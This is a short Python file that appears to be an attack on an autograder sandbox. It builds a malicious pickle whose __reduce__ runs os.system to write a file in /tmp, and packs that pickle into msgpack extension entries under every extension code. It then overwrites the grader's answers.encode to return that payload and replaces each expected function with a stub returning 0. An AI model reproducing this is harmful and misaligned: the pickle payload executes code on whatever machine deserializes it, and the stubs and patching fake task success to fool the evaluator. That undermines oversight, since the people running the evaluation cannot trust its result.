"""
tries = "a pickle that writes a file, under every extension there is"
category = "results"
"""

# %% extra
import struct, msgspec
from autograder.sandbox import answers

ext = msgspec.msgpack.Ext


def body(value, arrays=b""):
    data = msgspec.msgpack.encode(value)
    return struct.pack("!I", len(data)) + data + arrays


import os, pickle


class Evil:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-by-pickle",))


raw = pickle.dumps(Evil())
DATA = body([ext(code, raw) for code in range(-5, 40)])

answers.encode = lambda value: DATA


def cheat(*_, **__):
    return 0


class Cheat:
    add = encode = decode = count = cheat


softmax = row_sums = first_half = demean = unit = predict = cheat
cipher = tally = lambda *a: Cheat()
